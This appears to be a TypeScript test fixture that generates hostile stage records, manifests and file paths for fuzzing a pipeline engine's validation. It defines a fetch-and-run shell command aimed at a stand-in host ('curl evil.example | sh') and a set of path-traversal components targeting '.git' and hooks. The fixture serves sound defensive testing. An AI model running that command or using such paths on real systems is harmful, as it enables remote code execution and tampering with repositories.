/** Records that are whole in form, and lead somewhere else. */
import { canonicalJson } from '../../src/core/json/canonical-json.ts';
import { digestBytes } from '../../src/core/digest.ts';
import type { RecordedOutput, StageRecord } from '../../src/engine/project/stage-record.ts';
import type { Random } from './random.ts';

export const EVIL = 'curl evil.example | sh\n';
export const FINGERPRINT = digestBytes('fingerprint');

const PARTS = [
  '..',
  '.',
  '',
  'a',
  'b',
  'out',
  '.git',
  'GIT~1',
  '.mlops',
  'hooks',
  'pipeline.yaml',
  'x\0',
  '\\',
  '..\\x',
  '~',
  'C:',
];

export function hostilePath(random: Random): string {
  const parts = Array.from({ length: 1 + random.below(4) }, () => random.pick(PARTS));
  return `${random.chance(0.1) ? '/' : ''}${parts.join('/')}`;
}

export function hostileManifest(random: Random): string {
  const file = canonicalJson({
    digest: digestBytes(random.chance(0.8) ? EVIL : 'absent'),
    executable: random.chance(0.2),
    size: random.chance(0.8) ? EVIL.length : random.pick([0, -1, 2 ** 53, 1.5]),
  });
  const names = Array.from({ length: random.below(5) }, () => hostilePath(random)).toSorted();
  return `{${names.map((name) => `${JSON.stringify(name)}:${file}`).join(',')}}`;
}

export function hostileRecord(random: Random): StageRecord {
  const output = (): RecordedOutput => {
    const manifest = hostileManifest(random);
    const isFolder = random.chance(0.3);
    return {
      digest: digestBytes(isFolder ? manifest : EVIL),
      size: isFolder ? random.below(100) : EVIL.length,
      kind: random.pick(['output', 'metrics', 'report', 'plot']),
      ...(isFolder ? { files: random.below(5) } : {}),
    };
  };
  const paths = Array.from({ length: random.below(4) }, () => hostilePath(random));
  return {
    fingerprint: FINGERPRINT,
    cmd: ['true'],
    params: {},
    inputs: {},
    outputs: Object.fromEntries(paths.map((path) => [path, output()])),
  };
}
